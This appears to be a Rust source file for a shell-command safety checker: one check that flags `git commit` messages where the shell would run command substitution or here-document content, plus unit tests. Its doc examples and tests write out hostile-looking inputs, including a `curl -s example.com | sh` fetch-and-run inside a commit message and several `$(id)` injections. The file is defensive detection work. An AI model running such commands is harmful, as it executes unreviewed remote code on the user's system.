//! `git commit`: text in the message that the shell runs. A plain commit passes without further checks.

use super::form::{Case, Found, Marks, check};
use super::invocation::program;
use super::literal_here_document::only_literal;
use crate::span::Span;
use crate::script::{Joint, RedirectOp, Script, Simple, Value, Word};
use crate::syntax::{PieceKind, TokenKind};

check! {
    /// A commit message is prose, and prose is skimmed. In double quotes the shell still runs what is in
    /// `$(…)` or back-ticks, before git sees a word of it: the message that you approve is a command line.
    ///
    /// ```sh,fires
    /// git commit -m "fix $(curl -s example.com | sh)"
    /// git commit -m "use `date` in the header"
    /// git commit -am "release $(cat VERSION)"
    /// git commit --message="$(id)"
    /// git commit --message "$(id)"
    /// git commit -m $message
    /// git commit -m"built in $((end - start)) s"
    /// git -C sub commit -m "$(id)"
    /// timeout 9 git commit -m "$(id)"
    /// git commit -m "${x:-$(id)}"
    /// git commit -m "$(cat <(id))"
    /// ```
    ///
    /// ```sh,fires,whole
    /// git commit -F - <<EOF
    /// built on `hostname`
    /// EOF
    /// ```
    ///
    /// ```sh,fires,whole
    /// git commit -m "$(cat <<EOF
    /// built by $(id)
    /// EOF
    /// )"
    /// ```
    ///
    /// ```sh,fires,whole
    /// git commit -m "$(cat <<'EOF'; id
    /// text
    /// EOF
    /// )"
    /// ```
    ///
    /// In single quotes, and in a here-document with a quoted delimiter, nothing is run. A single plain commit
    /// is not looked at any further: its message may hold braces, newlines and `#`.
    ///
    /// ```sh,silent
    /// git commit -m "fix: handle {a,b} and issue #12"
    /// git commit -m 'costs $5 and uses `date` and $(id)'
    /// git commit --amend --no-edit
    /// git commit -am "plain" -m "second paragraph"
    /// git commit -m "$message"
    /// git log --grep "$(id)"
    /// git add -A && git commit -m "plain text"
    /// ```
    ///
    /// ```sh,silent,whole
    /// git commit -m "$(cat <<'EOF'
    /// fix: the parser keeps $(…) and `ticks` as text
    ///
    /// # not a comment
    /// EOF
    /// )"
    /// ```
    ///
    /// ```sh,silent,whole
    /// git commit -F - <<'EOF'
    /// it's `plain` $(text)
    /// EOF
    /// ```
    pub static GIT_COMMIT_SUBSTITUTION = 12 {
        says: "the shell runs or splits part of the commit message",
        help: "put the message in single quotes, or in a here-document with a quoted delimiter",
        // An ANSI-C string can spell `git` without a `g`.
        marks: Marks::of(b"g\\"),
        find,
    }
}

fn find(case: &Case<'_>, found: &mut Found) {
    let script = case.script;
    for (index, command) in script.commands.iter().enumerate() {
        let Some(git) = program(script, command, |name| name == "git") else { continue };
        let words = script.words_of(command);
        let Some(commit) =
            words.iter().skip(git + 1).position(|word| script.text(word) == Some("commit")).map(|at| git + 1 + at)
        else {
            continue;
        };
        message(script, words.get(commit + 1..).unwrap_or(&[]), found);
        body(script, index, found);
    }
    if plain_commit(script) {
        found.allow_early();
    }
}

/// Reports what is dynamic in the words that hold the message.
fn message(script: &Script<'_>, words: &[Word], found: &mut Found) {
    let mut value = false;
    for word in words {
        let written = script.slice(word.span);
        let long = written.starts_with("--m");
        let attached = long && written.contains('=') || !long && attached_message(written);
        if (value || attached)
            && let Some(span) = runs(script, word)
        {
            found.ask(span);
        }
        value = !value && (long && !attached || is_message_cluster(written));
    }
}

/// `-m`, or a cluster such as `-am`, whose value is the next word.
fn is_message_cluster(written: &str) -> bool {
    written.strip_prefix('-').and_then(|rest| rest.strip_suffix('m')).is_some_and(is_flags)
}

/// `-m"text"`, or a cluster such as `-am"text"`.
fn attached_message(written: &str) -> bool {
    written
        .strip_prefix('-')
        .and_then(|rest| rest.split_once('m'))
        .is_some_and(|(flags, value)| is_flags(flags) && !value.is_empty())
}

fn is_flags(letters: &str) -> bool {
    letters.bytes().all(|byte| matches!(byte, b'a' | b's' | b'q' | b'v' | b'n' | b'e' | b'o' | b'i'))
}

/// The first part of `word` that the shell runs, or that it splits.
fn runs(script: &Script<'_>, word: &Word) -> Option<Span> {
    if only_literal(script, word) {
        return None;
    }
    script.pieces_of(word).iter().find_map(|piece| match piece.kind {
        PieceKind::Substitution(_)
        | PieceKind::Backquote(_)
        | PieceKind::ProcessSubstitution(_)
        | PieceKind::Arithmetic
        | PieceKind::ParameterOperation => Some(piece.span),
        PieceKind::Parameter if !piece.quoted => Some(piece.span),
        _ => None,
    })
}

/// Reports what is run in a here-document that feeds the command.
fn body(script: &Script<'_>, command: usize, found: &mut Found) {
    for document in script.here_documents.iter().filter(|document| !document.literal) {
        let feeds = script
            .redirects
            .get(document.redirect as usize)
            .is_some_and(|redirect| redirect.command == Some(command as u32));
        if feeds
            && let Some(word) = script.word(document.word)
            && let Some(span) = runs(script, word)
        {
            found.ask(span);
        }
    }
}

/// Whether the script is one `git commit` that holds nothing for a later check to find.
fn plain_commit(script: &Script<'_>) -> bool {
    let Some((command, rest)) = script.commands.split_first() else { return false };
    let text = script.source.bytes().all(|byte| matches!(byte, b'\n' | b'\t' | b' '..=b'~'));
    let alone = script.doubts.is_empty()
        && script.comments.is_empty()
        && script.assignments.is_empty()
        && command.scope == 0
        && command.before == Joint::Edge
        // A line break after the command, or after its here-document, joins it to nothing.
        && matches!(command.after, Joint::Edge | Joint::Sequence)
        && !script.tokens.iter().any(|token| token.kind == TokenKind::Operator)
        && !command.negated;
    text && alone && options(script, command, rest)
}

/// Whether all words are known options of `git commit` with literal values, and nothing else is in the script.
fn options(script: &Script<'_>, command: &Simple, rest: &[Simple]) -> bool {
    let words = script.words_of(command);
    let plain = |word: &Word| match word.value {
        Value::Plain => Some(script.slice(word.span)),
        _ => None,
    };
    let mut words = words.iter();
    if words.next().and_then(plain) != Some("git") || words.next().and_then(plain) != Some("commit") {
        return false;
    }
    // The `cat` of each literal here-document, and its redirect, are part of a value.
    let mut idioms = 0;
    let mut literal = |word: &Word| {
        let idiom = only_literal(script, word);
        idioms += usize::from(idiom);
        idiom || script.text(word).is_some()
    };
    let mut message = false;
    let mut fed = 0;
    while let Some(word) = words.next() {
        let written = script.slice(word.span);
        if let Some(option) = plain(word) {
            match option {
                "-a" | "--all" | "-s" | "--signoff" | "-q" | "--quiet" | "-v" | "--verbose" | "--amend"
                | "--allow-empty" => continue,
                "--no-edit" => {
                    message = true;
                    continue;
                }
                "-F" | "--file" if words.next().and_then(plain) == Some("-") => {
                    fed += 1;
                    continue;
                }
                "-m" | "--message" | "-am" | "-qm" | "-sm" | "-asm" | "-aqm" => {
                    if !words.next().is_some_and(&mut literal) {
                        return false;
                    }
                    message = true;
                    continue;
                }
                "--author" | "--date" => {
                    if !words.next().is_some_and(&mut literal) {
                        return false;
                    }
                    continue;
                }
                _ => {}
            }
        }
        let attached = ["--message=", "--author=", "--date="].iter().any(|name| written.starts_with(name));
        if !attached || !literal(word) {
            return false;
        }
        message |= written.starts_with("--message=");
    }
    let literals = script.here_documents.iter().all(|document| document.literal);
    let documents = script
        .redirects
        .iter()
        .all(|it| matches!(it.op, RedirectOp::HereDocument | RedirectOp::HereDocumentTabs) && it.fd.is_none());
    literals
        && documents
        && (message || fed == 1)
        && fed <= 1
        && rest.len() == idioms
        && script.redirects.len() == idioms + fed
        && script.here_documents.len() == idioms + fed
}

#[cfg(test)]
mod tests {
    use super::super::form::Check;
    use super::super::run::run;
    use super::super::story_tests::Relative;
    use super::*;
    use crate::codes::{Code, Help};
    use crate::script::Dialect;
    use crate::syntax::{Views, read};

    /// Reports every command, so that it shows whether the chain went on.
    static LAST: Check = Check {
        number: 23,
        code: Code::brief("LAST", "", Help::both("")),
        marks: Marks::ANY,
        find: |_, found| found.ask(Span::at(0)),
    };

    fn ends_early(command: &str) -> bool {
        let script = read(command, Dialect::Bash);
        let views = Views::new(&script);
        let case = Case { script: &script, views: &views, any_value: &[], sums: &[], lists: &[], inputs: &[], texts: &[], inside: &Relative, session: None };
        let found = run(&[&GIT_COMMIT_SUBSTITUTION, &LAST], &case, Marks::ANY);
        !found.spotted.iter().any(|spotted| spotted.check == &LAST)
    }

    #[test]
    fn a_single_plain_commit_ends_the_chain() {
        for command in [
            "git commit -m 'fix {a,b} #12'",
            "git commit -m \"a\n# b\"",
            "git commit -am x -m y",
            "git commit --message='a b' --author='A <a@b.c>'",
            "git commit --amend --no-edit",
            "git commit -F - <<'EOF'\na $(b)\nEOF\n",
            "git commit -m \"$(cat <<'EOF'\na $(b)\nEOF\n)\"",
        ] {
            assert!(ends_early(command), "{command:?}");
        }
    }

    #[test]
    fn anything_more_than_a_plain_commit_goes_on_to_the_next_check() {
        for command in [
            "git commit -m x; id",
            "git commit -m x;",
            "git commit -m x\nid",
            "git commit -m x && id",
            "git commit -m x | id",
            "git commit -m x &",
            "! git commit -m x",
            "(git commit -m x)",
            "A=b git commit -m x",
            "git commit -m x > f",
            "git commit -m x # note",
            "git commit -m $x",
            "git commit -m \"$x\"",
            "git commit -m *",
            "git commit -m",
            "git commit",
            "git commit -m x f",
            "git commit -F f",
            "git commit -F -",
            "git commit -F - <<EOF\na\nEOF\n",
            "git commit -F - <<'EOF' <<'EOF'\na\nEOF\nb\nEOF\n",
            "git commit -m x <<'EOF'\na\nEOF\n",
            "git commit -S -m x",
            "git commit -e -m x",
            "git commit --template=f -m x",
            "git commit -C HEAD",
            "git -C sub commit -m x",
            "git -c core.editor=x commit -m x",
            "g''it commit -m x",
            "git commit -\\m x",
            "/tmp/git commit -m x",
            "sudo git commit -m x",
            "git commit -m 'x\u{1b}[2J'",
            "git commit -m 'x\u{202e}'",
            "git commit -m 'x",
            "git commit -m \"$(cat <<EOF\na\nEOF\n)\"",
            "git commit -m \"$(cat <<'EOF'; id\na\nEOF\n)\"",
            "git commit -m \"$(cat <<'EOF' > f\na\nEOF\n)\"",
            "git commit -m \"$(cat f <<'EOF'\na\nEOF\n)\"",
            "git commit -m \"$(cat <<'EOF' # c\na\nEOF\n)\"",
            "git commit -m \"$(cat <<'EOF'\na\nEOF\nid)\"",
            "git commit -m \"$(cat <<'EOF'\na\nEOF\n)$x\"",
            "git commit -m $(cat <<'EOF'\na\nEOF\n)",
        ] {
            assert!(!ends_early(command), "{command:?}");
        }
    }
}
